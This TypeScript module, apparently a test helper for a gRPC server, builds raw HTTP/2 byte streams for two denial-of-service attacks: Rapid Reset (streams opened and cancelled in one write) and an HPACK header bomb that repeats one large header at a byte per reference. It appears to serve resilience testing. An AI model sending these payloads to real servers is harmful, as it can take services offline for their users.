/** Hand-written HTTP/2: streams opened and reset in one write, which no library sends. */
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const END_STREAM = 1;
const END_HEADERS = 4;
const CANCEL = 8;

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function literal(prefix: readonly number[], ...texts: string[]): Buffer {
  return Buffer.concat([Buffer.from(prefix), ...texts.map((text) => Buffer.from([text.length, ...Buffer.from(text)]))]);
}

/**
 * Uses POST and http from the static table; path, authority, type and `te` enter the dynamic one with the first
 * request.
 */
const firstHeaders = (path: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x83, 0x86]),
    literal([0x44], path),
    literal([0x41], 'executor'),
    literal([0x5f], 'application/grpc'),
    literal([0x40], 'te', 'trailers'),
  ]);
const NEXT_HEADERS = Buffer.from([0x83, 0x86, 0xc1, 0xc0, 0xbf, 0xbe]);

/** Returns a connection's bytes: streams that are each reset before their request arrives, at 28 bytes each. */
export function rapidReset(
  path: string,
  { streams, endStream = false }: { streams: number; endStream?: boolean },
): Buffer {
  const frames = [Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0))];
  const cancel = Buffer.from([0, 0, 0, CANCEL]);
  for (let index = 0; index < streams; index += 1) {
    const stream = index * 2 + 1;
    frames.push(
      frame(
        HEADERS,
        END_HEADERS | (endStream ? END_STREAM : 0),
        stream,
        index === 0 ? firstHeaders(path) : NEXT_HEADERS,
      ),
    );
    frames.push(frame(RST_STREAM, 0, stream, cancel));
  }
  return Buffer.concat(frames);
}

const BOMB_VALUE_BYTES = 4_000;

/** Returns a connection's bytes: requests whose headers repeatedly refer to one large header, one byte each. */
export function headerBombs(path: string, { streams, times }: { streams: number; times: number }): Buffer {
  const length = Buffer.from([0x7f, ((BOMB_VALUE_BYTES - 0x7f) & 0x7f) | 0x80, (BOMB_VALUE_BYTES - 0x7f) >> 7]);
  const large = Buffer.concat([Buffer.from([0x40, 1]), Buffer.from('x'), length, Buffer.alloc(BOMB_VALUE_BYTES, 0x61)]);
  const frames = [Buffer.from(PREFACE), frame(SETTINGS, 0, 0, Buffer.alloc(0))];
  for (let index = 0; index < streams; index += 1) {
    const bomb = Buffer.concat([firstHeaders(path), large, Buffer.alloc(times, 0xbe)]);
    frames.push(frame(HEADERS, END_HEADERS, index * 2 + 1, bomb));
  }
  return Buffer.concat(frames);
}
